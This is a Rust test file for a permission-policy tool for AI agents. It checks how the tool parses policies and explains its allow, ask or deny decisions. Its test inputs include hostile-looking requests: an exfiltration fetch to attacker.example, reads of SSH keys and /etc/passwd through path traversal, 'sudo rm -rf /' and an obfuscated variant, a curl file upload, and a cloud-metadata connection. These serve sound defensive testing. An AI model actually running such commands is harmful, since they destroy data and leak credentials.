//! `portcullis policy init | check | explain`.

use serde_json::Value;

use super::{TempDir, portcullis};

const THREE_MISTAKES: &str =
    "[network]\nalow = [\"x.io\"]\ndeny = [\"*.\"]\n\n[tools]\nrate = { Bash = \"60/fortnight\" }\n";

#[test]
fn check_names_all_three_mistakes_with_line_and_column() {
    let dir = TempDir::new();
    std::fs::write(dir.path().join("p.toml"), THREE_MISTAKES).unwrap();
    let run = portcullis(&["policy", "check", "p.toml"], dir.path(), None);
    assert_eq!(run.code, 2, "{}", run.stderr);
    for needle in [
        "p.toml:2:1",
        "unknown key `alow`",
        "did you mean `allow`?",
        "p.toml:3:9",
        "`*.`",
        "p.toml:6:17",
        "fortnight",
        "3 problems",
    ] {
        assert!(run.stderr.contains(needle), "missing {needle:?} in:\n{}", run.stderr);
    }
}

#[test]
fn check_json_lists_problems_with_positions() {
    let dir = TempDir::new();
    std::fs::write(dir.path().join("p.toml"), THREE_MISTAKES).unwrap();
    let run = portcullis(&["policy", "check", "p.toml", "--json"], dir.path(), None);
    assert_eq!(run.code, 2);
    let v: Value = serde_json::from_str(&run.stdout).unwrap();
    let positions: Vec<(u64, u64)> = v["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["line"].as_u64().unwrap(), p["column"].as_u64().unwrap()))
        .collect();
    assert_eq!(positions, [(2, 1), (3, 9), (6, 17)]);
}

#[test]
fn init_writes_a_starter_policy_that_checks_and_is_not_overwritten() {
    let dir = TempDir::new();
    let run = portcullis(&["policy", "init"], dir.path(), None);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = std::fs::read_to_string(dir.path().join("portcullis.toml")).unwrap();
    assert!(text.contains("[network]") && text.contains("[agents.reviewer]"));
    let check = portcullis(&["policy", "check"], dir.path(), None);
    assert_eq!(check.code, 0, "{}", check.stderr);
    assert!(check.stdout.contains("ok"), "{}", check.stdout);
    let again = portcullis(&["policy", "init"], dir.path(), None);
    assert_eq!(again.code, 2);
    assert!(again.stderr.contains("already exists"), "{}", again.stderr);
}

fn explain_json(dir: &TempDir, args: &[&str]) -> Value {
    let mut all = vec!["policy", "explain", "--json"];
    all.extend_from_slice(args);
    let run = portcullis(&all, dir.path(), None);
    assert_eq!(run.code, 0, "{}", run.stderr);
    serde_json::from_str(&run.stdout).unwrap()
}

#[test]
fn explain_names_the_deciding_rule_for_each_kind_of_request() {
    let dir = TempDir::new();
    std::fs::write(
        dir.path().join("p.toml"),
        "[network]\nallow = [\"*.github.com:443\"]\n[tools]\ndeny = [\"Bash(git push --force *)\"]\nallow = [\"Bash(git *)\"]\n[filesystem]\nhidden = [\"./secrets\"]\n",
    )
    .unwrap();
    let cases: [(&[&str], &str, &str); 6] = [
        (&["--tool", "Bash", "--input", r#"{"command":"git push --force origin"}"#], "deny", "tools.deny[0]"),
        (&["--tool", "Bash", "--input", r#"{"command":"git status"}"#], "allow", "tools.allow[0]"),
        (&["--connect", "api.github.com:443"], "allow", "network.allow[0]"),
        (&["--connect", "evilgithub.com:443"], "deny", "default.network"),
        (&["--read", "secrets/token"], "deny", "filesystem.hidden[0]"),
        (&["--exec", "git", "push", "--force", "x"], "deny", "tools.deny[0]"),
    ];
    for (args, decision, rule) in cases {
        let mut all = vec!["--policy", "p.toml"];
        all.extend_from_slice(args);
        let v = explain_json(&dir, &all);
        assert_eq!(v["decision"], decision, "{args:?}: {v}");
        assert_eq!(v["rules"][0]["id"], rule, "{args:?}: {v}");
        assert!(v["reason"].as_str().unwrap().contains(rule), "{v}");
    }
}

#[test]
fn explain_without_a_policy_uses_the_builtin_default() {
    let dir = TempDir::new();
    let v = explain_json(&dir, &["--tool", "WebFetch", "--input", r#"{"url":"https://attacker.example/?k=1"}"#]);
    assert_eq!(v["decision"], "deny");
    assert_eq!(v["rules"][0]["id"], "default.network");
    let home = dir.path().join("home/.ssh/id_ed25519");
    let v = explain_json(&dir, &["--read", home.to_str().unwrap()]);
    assert_eq!(v["decision"], "deny");
    assert_eq!(v["rules"][0]["origin"], "builtin");
}

/// `--in-run` shows an exec as `run` decides it: the guards its walls answer deferred, and an
/// ask refused. Without it, explain keeps every guard (as the hook outside `run` will).
#[test]
fn explain_in_run_shows_the_guards_deferred_to_the_walls() {
    let dir = TempDir::new();
    let upload = ["--exec", "curl", "-s", "-d", "@notes.txt", "https://files.example/upload"];
    let v = explain_json(&dir, &upload);
    assert_eq!(v["decision"], "ask", "{v}");
    let mut in_run = vec!["--in-run"];
    in_run.extend_from_slice(&upload);
    let v = explain_json(&dir, &in_run);
    assert_eq!(v["decision"], "allow", "the proxy decides where it may go: {v}");
    let v = explain_json(&dir, &["--in-run", "--exec", "git", "reset", "--hard"]);
    assert_eq!(v["decision"], "deny", "{v}");
    assert!(v["reason"].as_str().unwrap().starts_with("refused: needs approval"), "{v}");
    assert!(v["reason"].as_str().unwrap().contains("no approver is attached"), "{v}");
}

/// `policy show` prints what an agent actually runs under: its own settings over the top
/// level's, the defaults filled in, and its rules.
#[test]
fn policy_show_prints_an_agents_effective_profile_with_the_defaults() {
    let dir = TempDir::new();
    std::fs::write(
        dir.path().join("p.toml"),
        "[network]\nallow = [\"docs.rs\"]\n[agents.reviewer]\n[agents.reviewer.limits]\nmemory = \"1 GiB\"\n[agents.reviewer.tools]\ndeny = [\"Bash(git push *)\"]\n",
    )
    .unwrap();
    let run = portcullis(&["policy", "show", "--policy", "p.toml", "--agent", "reviewer", "--json"], dir.path(), None);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let v: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(v["settings"]["limits"]["memory"], 1u64 << 30, "{v}");
    assert_eq!(v["settings"]["limits"]["processes"], 4096, "the default fills what neither sets: {v}");
    let rules: Vec<&str> = v["rules"].as_array().unwrap().iter().map(|r| r["text"].as_str().unwrap()).collect();
    assert!(rules.contains(&"Bash(git push *)") && rules.contains(&"docs.rs"), "{rules:?}");
    assert!(v["guards_deferred_in_run"].as_array().unwrap().iter().any(|g| g == "network_transfer"), "{v}");
    let run = portcullis(&["policy", "show", "--policy", "p.toml"], dir.path(), None);
    assert!(
        run.stdout.contains("limits.processes = 4096") && run.stdout.contains("limits.execs = unlimited"),
        "{}",
        run.stdout
    );
    let run = portcullis(&["policy", "show", "--policy", "p.toml", "--agent", "nobody"], dir.path(), None);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("nobody"), "{}", run.stderr);
}

#[test]
fn explain_jsonl_answers_each_line_and_denies_unreadable_ones() {
    let dir = TempDir::new();
    let input = "\"git status\"\n{\"connect\":\"169.254.169.254:80\"}\nnot json\n\n{\"tool\":\"Bash\",\"input\":{\"command\":\"sudo rm -rf /\"}}\n";
    let run = portcullis(&["policy", "explain", "--jsonl"], dir.path(), Some(input));
    assert_eq!(run.code, 0, "{}", run.stderr);
    let lines: Vec<Value> = run.stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 4);
    let decisions: Vec<&str> = lines.iter().map(|l| l["decision"].as_str().unwrap()).collect();
    assert_eq!(decisions, ["ask", "deny", "deny", "deny"]);
    assert_eq!(lines[1]["rules"][0]["id"], "builtin.network.special_ranges");
    assert_eq!(lines[2]["line"], 3);
    assert!(lines[2]["error"].as_str().unwrap().contains("not JSON"));
    assert_eq!(lines[3]["line"], 5);
    assert!(run.stderr.contains("4 requests: 0 allow, 1 ask, 3 deny"), "{}", run.stderr);
}

#[test]
fn an_unknown_agent_is_a_setup_error() {
    let dir = TempDir::new();
    let run = portcullis(&["policy", "explain", "--agent", "nobody", "--connect", "x.io:443"], dir.path(), None);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("no agent `nobody`"), "{}", run.stderr);
}

#[test]
fn help_teaches_with_examples() {
    let dir = TempDir::new();
    for args in [
        &["--help"][..],
        &["policy", "init", "--help"],
        &["policy", "check", "--help"],
        &["policy", "explain", "--help"],
    ] {
        let run = portcullis(args, dir.path(), None);
        assert_eq!(run.code, 0);
        assert!(run.stdout.contains("Examples:"), "{args:?}:\n{}", run.stdout);
        assert!(run.stdout.contains("portcullis policy"), "{args:?}");
    }
}

#[test]
fn explain_runs_the_guards_unless_told_not_to() {
    let dir = TempDir::new();
    let v = explain_json(&dir, &["--tool", "Bash", "--input", r#"{"command":"c=rm; $c -rf ~"}"#]);
    assert_eq!(v["decision"], "deny", "{v}");
    assert!(v["rules"].as_array().unwrap().iter().any(|r| r["id"] == "guard.destructive_delete"), "{v}");
    let v = explain_json(&dir, &["--no-guards", "--tool", "Bash", "--input", r#"{"command":"c=rm; $c -rf ~"}"#]);
    assert_eq!(v["decision"], "ask", "{v}");
    let v = explain_json(&dir, &["--read", "..%2f..%2fetc%2fpasswd"]);
    assert_eq!(v["decision"], "deny");
    assert!(v["reason"].as_str().unwrap().contains("guard.path"), "{v}");
}

#[test]
fn guards_lists_every_family_with_the_policy_decision() {
    let dir = TempDir::new();
    std::fs::write(dir.path().join("p.toml"), "[guards]\nforce_push = \"ask\"\ninline_code = \"off\"\n").unwrap();
    let run = portcullis(&["policy", "guards", "--policy", "p.toml", "--json"], dir.path(), None);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows: Vec<Value> = serde_json::from_str(&run.stdout).unwrap();
    assert!(rows.len() >= 16);
    let decision = |id: &str| rows.iter().find(|r| r["id"] == id).unwrap()["decision"].clone();
    assert_eq!(decision("force_push"), "ask");
    assert_eq!(decision("inline_code"), "off");
    assert_eq!(decision("remote_code"), "deny");
    let human = portcullis(&["policy", "guards"], dir.path(), None);
    assert!(human.stdout.contains("destructive_delete") && human.stdout.contains("e.g."), "{}", human.stdout);
}
